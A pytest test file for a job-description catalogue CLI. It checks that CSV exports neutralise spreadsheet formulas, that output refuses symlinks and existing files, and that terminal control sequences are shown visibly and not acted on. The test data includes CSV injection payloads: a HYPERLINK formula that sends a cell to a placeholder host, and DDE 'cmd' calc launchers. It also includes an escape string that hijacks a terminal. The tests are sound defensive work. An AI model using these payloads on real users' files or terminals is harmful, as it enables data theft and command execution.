"""Unsafe output closed: formulas in CSV, markup and escapes in what is printed, symlinks."""

from __future__ import annotations

import csv
import io
import json
import re
import sqlite3
from pathlib import Path

import pytest

from catalogue.export import inert, rows_to_csv
from catalogue.jd_sources import read_cell
from tests.support import query, run

HOSTILE_TITLES = [
    '=HYPERLINK("http://x/?"&A1)',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "\tTabbed",
    "'=already guarded",
    "Plain title",
]


@pytest.mark.parametrize("text", HOSTILE_TITLES)
def test_a_cell_a_spreadsheet_would_run_is_inert_and_reads_back_exactly(text: str) -> None:
    cell = inert(text)
    assert cell[:1] not in ("=", "+", "-", "@", "\t", "\r")
    assert read_cell(cell) == text


def test_every_csv_export_neutralises_formulas_and_imports_back_exactly(
    empty_catalogue: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    rows = "".join(
        f'RRK,H{index},"{title.replace(chr(34), chr(34) * 2)}",5\r\n'
        for index, title in enumerate(HOSTILE_TITLES)
    )
    source = tmp_path / "hostile.csv"
    source.write_text("trust,jd_ref,title,band\r\n" + rows, encoding="utf-8")
    db = str(empty_catalogue)
    assert run(capsys, "import", str(source), "--db", db)[0] == 0
    code, out, _ = run(capsys, "export", "jds", "--format", "csv", "--db", db)
    cells = [row[2] for row in csv.reader(io.StringIO(out))][1:]
    assert all(cell[:1] not in "=+-@\t\r" for cell in cells), cells
    again = tmp_path / "again.csv"
    again.write_text(out, encoding="utf-8")
    code, out, _ = run(capsys, "import", str(again), "--format", "json", "--db", db)
    assert '"updated": 0' in out
    stored = {row[0] for row in query(empty_catalogue, "SELECT title FROM job_description")}
    # As a spreadsheet means them: a leading apostrophe keeps a formula as text.
    assert stored == {read_cell(title).strip() for title in HOSTILE_TITLES}
    # The listings' CSV too.
    code, out, _ = run(capsys, "variation", "--format", "csv", "--db", db)
    assert "\n=" not in out and ",=" not in out


def test_rows_to_csv_leaves_numbers_alone() -> None:
    text = rows_to_csv([{"band": "5", "wte": -0.5, "title": "-x"}])
    assert text.splitlines()[1] == "5,-0.5,'-x"


def test_output_never_writes_through_a_symbolic_link(
    packaged_db: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    target = tmp_path / "elsewhere.csv"
    dangling = tmp_path / "link.csv"
    dangling.symlink_to(target)
    db = str(packaged_db)
    code, _, err = run(
        capsys, "export", "roles", "--format", "csv", "-o", str(dangling), "--db", db
    )
    assert code == 2 and "is a symbolic link" in err
    assert not target.exists()  # the link's target was not created
    precious = tmp_path / "precious.txt"
    precious.write_text("months of work", encoding="utf-8")
    linked = tmp_path / "out.csv"
    linked.symlink_to(precious)
    code, _, err = run(
        capsys, "export", "roles", "--format", "csv", "-o", str(linked), "--force", "--db", db
    )
    assert code == 0, err
    assert precious.read_text(encoding="utf-8") == "months of work"
    assert not linked.is_symlink() and linked.read_text(encoding="utf-8").startswith("id,")


@pytest.mark.parametrize(
    ("argv", "where"),
    [
        (["export", "roles", "--format", "csv", "-o"], "roles.csv"),
        (["report"], "board.md"),
        (["passport", "new", "-o"], "me.toml"),
    ],
)
def test_every_command_that_writes_keeps_an_existing_file_unless_forced(
    packaged_db: Path,
    tmp_path: Path,
    capsys: pytest.CaptureFixture[str],
    argv: list[str],
    where: str,
) -> None:
    path = tmp_path / where
    path.write_text("keep me", encoding="utf-8")
    code, _, err = run(capsys, *argv, str(path), "--db", str(packaged_db))
    assert code == 2 and "already exists" in err
    assert path.read_text(encoding="utf-8") == "keep me"
    folder = tmp_path / "a-folder"
    folder.mkdir()
    code, _, err = run(capsys, *argv, str(folder), "--db", str(packaged_db))
    assert code == 2 and "folder" in err


HOSTILE = "Radiographer \x1b]0;PWNED\x07\x1b[2J\x1b]8;;http://x\x1b\\link\x1b]8;;\x1b\\\r"


def _in_a_terminal(*argv: str) -> str:
    """Run `workforce ARGV` with its output on a pseudo-terminal, as a person would."""
    import os
    import pty
    import subprocess
    import sys

    main, child = pty.openpty()
    process = subprocess.Popen(
        [sys.executable, "-m", "workforce_cli.main", *argv],
        stdout=child,
        stderr=child,
        stdin=subprocess.DEVNULL,
        env={**os.environ, "COLUMNS": "200"},
    )
    os.close(child)
    chunks = []
    while True:
        try:
            chunk = os.read(main, 65536)
        except OSError:  # the child closed the terminal
            break
        if not chunk:
            break
        chunks.append(chunk)
    process.wait(timeout=60)
    os.close(main)
    return b"".join(chunks).decode("utf-8", "replace")


def test_text_from_files_never_drives_the_terminal(
    empty_catalogue: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    # Imports refuse control characters now (below); a catalogue filled before, or by
    # another tool, may still hold them: put them in as such a tool would.
    db = str(empty_catalogue)
    source = tmp_path / "two.csv"
    source.write_text(
        "trust,jd_ref,title,band,role\r\nRRK,H1,Radiographer,5,diagnostic-radiographer\r\n"
        "RRK,H2,Radiographer,6,diagnostic-radiographer\r\n",
        encoding="utf-8",
    )
    assert run(capsys, "import", str(source), "--db", db)[0] == 0
    with sqlite3.connect(empty_catalogue) as conn:
        conn.execute("UPDATE job_description SET title = ?", [HOSTILE])
    for argv in (
        ["compare", "diagnostic-radiographer", "--db", db],
        ["variation", "--db", db],
        ["export", "jds", "--format", "csv", "--db", db],
        ["import", str(tmp_path / "no \x1b[2J such.csv"), "--db", db],
    ):
        shown = _in_a_terminal(*argv)
        # Rich's colours may pass; nothing else that a terminal acts on.
        acting = re.sub(r"\x1b\[[0-9;]*m", "", shown)
        assert "\x1b" not in acting and "\x07" not in acting, (argv, shown[:400])
        assert "\\x1b" in shown, argv  # shown, visibly, rather than dropped


def test_an_import_refuses_control_characters(
    empty_catalogue: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    source = tmp_path / "hostile.json"
    jd = {"trust": "RRK", "jd_ref": "H1", "title": HOSTILE, "band": "5"}
    source.write_text(json.dumps([jd]), encoding="utf-8")
    code, _, err = run(capsys, "import", str(source), "--db", str(empty_catalogue))
    assert code == 2
    assert "field 'title': holds a control character (U+001B) at position 14" in err
